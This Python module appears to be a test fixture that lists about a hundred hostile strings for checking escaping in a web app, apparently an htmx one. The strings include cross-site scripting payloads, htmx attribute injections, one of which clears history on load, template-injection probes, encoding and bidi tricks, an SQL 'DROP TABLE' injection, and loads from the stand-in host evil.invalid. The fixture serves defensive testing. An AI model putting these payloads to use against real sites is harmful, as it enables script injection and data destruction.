"""A hundred texts that would like to be more than text.

Each makes an element or an attribute called `x-hostile` if it is taken for markup, calls `ran()` if
it is taken for a script, and asks for something at evil.invalid or /browse/evil if it is followed.
"""

from __future__ import annotations

RAN = "window.ran=1"
EVIL = "//evil.invalid/x"

_ELEMENTS = [
    "<x-hostile>",
    f"<script x-hostile>{RAN}</script>",
    f"<ScRiPt x-hostile>{RAN}</sCrIpT>",
    f"<script x-hostile src={EVIL}></script>",
    f"<img x-hostile src=x onerror={RAN}>",
    f"<img x-hostile src={EVIL}>",
    f"<svg x-hostile onload={RAN}>",
    f"<svg x-hostile><script>{RAN}</script></svg>",
    f"<svg x-hostile><a href=javascript:{RAN}><text y=20>x</text></a></svg>",
    f"<math x-hostile><mi xlink:href=javascript:{RAN}>x</mi></math>",
    f"<iframe x-hostile src={EVIL}></iframe>",
    f"<iframe x-hostile srcdoc='<script>{RAN}</script>'></iframe>",
    f"<object x-hostile data={EVIL}></object>",
    f"<embed x-hostile src={EVIL}>",
    f"<video x-hostile src={EVIL} autoplay></video>",
    f"<audio x-hostile src={EVIL} onerror={RAN}></audio>",
    f"<link x-hostile rel=stylesheet href={EVIL}>",
    f"<style x-hostile>@import '{EVIL}'; body{{display:none}}</style>",
    f"<base x-hostile href={EVIL}>",
    f"<meta x-hostile http-equiv=refresh content='0;url={EVIL}'>",
    '<meta x-hostile http-equiv=content-security-policy content="script-src *">',
    f"<form x-hostile action={EVIL}><button>Save</button></form>",
    f"<a x-hostile href=javascript:{RAN}>x</a>",
    f"<a x-hostile href='data:text/html,<script>{RAN}</script>'>x</a>",
    f"<details x-hostile open ontoggle={RAN}>x</details>",
    f"<input x-hostile autofocus onfocus={RAN}>",
    f"<body x-hostile onload={RAN}>",
    f"<marquee x-hostile onstart={RAN}>x</marquee>",
    "<template x-hostile><script>window.ran=1</script></template>",
    "<plaintext x-hostile>",
    "<div x-hostile style='position:fixed;inset:0;background:red'>",
    f'<div x-hostile style="background:url({EVIL})">',
    "<div x-hostile hx-get=/browse/evil hx-trigger=load>",
    "<div x-hostile data-hx-get=/browse/evil data-hx-trigger=load>",
    f"<div x-hostile hx-on::load={RAN}>",
    f"<div x-hostile hx-on:click={RAN}>",
    '<div x-hostile hx-post=/browse/recent/clear hx-trigger=load hx-vals=\'{"sure":"1"}\'>',
    "<div x-hostile hx-swap-oob=true id=summary>",
    "<div x-hostile hx-headers='js:{x:window.ran=1}' hx-get=/browse/evil hx-trigger=load>",
    "<div x-hostile hx-ext=evil hx-boost=true>",
]
_CLOSERS = [
    *("</p>", "</title>", "</textarea>", "</option></select>", "</td></tr></table>", "</pre>"),
    *("</bdi></a>", "-->", "]]>", "</style>", "</script>", "</svg>", "</form>", "</datalist>"),
]
_ATTRIBUTES = [
    '" x-hostile="1',
    "' x-hostile='1",
    "x x-hostile=1 ",
    f'" onmouseover="{RAN}" x-hostile="1',
    f'" autofocus onfocus="{RAN}" x-hostile="1',
    f'"><script x-hostile>{RAN}</script>',
    f"'><img x-hostile src={EVIL}>",
    '" hx-get="/browse/evil" hx-trigger="load" x-hostile="1',
    f'" style="background:url({EVIL})" x-hostile="1',
    '" formaction="/browse/evil" x-hostile="1',
    f"`><svg x-hostile onload={RAN}>",
]
_TEMPLATES = [
    "{{7*7}}<x-hostile>",
    "{% include 'layout.html' %}<x-hostile>",
    "{{ ''.__class__.__mro__ }}<x-hostile>",
    "{{ '<x-hostile>'|safe }}",
    "{# <x-hostile> #}",
    "${7*7}<x-hostile>",
    "#{7*7}<%= 7*7 %><x-hostile>",
    "{0.__class__}{text}{n}<x-hostile>",
    "%(text)s%s%n<x-hostile>",
]
_LINKS = [
    f"javascript:{RAN}",
    f"JaVaScRiPt:{RAN}",
    f"java script:{RAN}",
    f"data:text/html,<script x-hostile>{RAN}</script>",
    f"vbscript:{RAN}",
    EVIL,
    "https://evil.invalid/?x=<x-hostile>",
    "/browse/evil?x=<x-hostile>",
    "../../browse/evil#<x-hostile>",
    "#m-evil<x-hostile>",
    "?user=evil&agent=<x-hostile>",
]
_LETTERS = [
    f"\u202e<x-hostile>{RAN}\u202c",
    "\u2066<x-hostile>\u2069",
    "\u200b<\u200bx-hostile>",
    "\ufeff<x-hostile>",
    "%3Cx-hostile%3E<x-hostile>",
    "&lt;x-hostile&gt;<x-hostile>",
    "&#60;x-hostile&#62;",
    "&#x3c;x-hostile&#x3e;",
    "\\u003cx-hostile\\u003e<x-hostile>",
    "+ADw-x-hostile+AD4-<x-hostile>",
    "<x-hostile\u00a0a=1>",
    "<\u212ax-hostile><x-hostile>",
    "ﬀ<x-hostile>𝕏",
    "👩‍👩‍👧<x-hostile>",
    "'; DROP TABLE messages; --<x-hostile>",
]

TEXTS = [
    *_ELEMENTS,
    *(f"{closer}<x-hostile>" for closer in _CLOSERS),
    *_ATTRIBUTES,
    *_TEMPLATES,
    *_LINKS,
    *_LETTERS,
]
NAMES = [text if text.isprintable() else "".join(filter(str.isprintable, text)) for text in TEXTS]
"""The same as names, which have no letters that cannot be printed."""
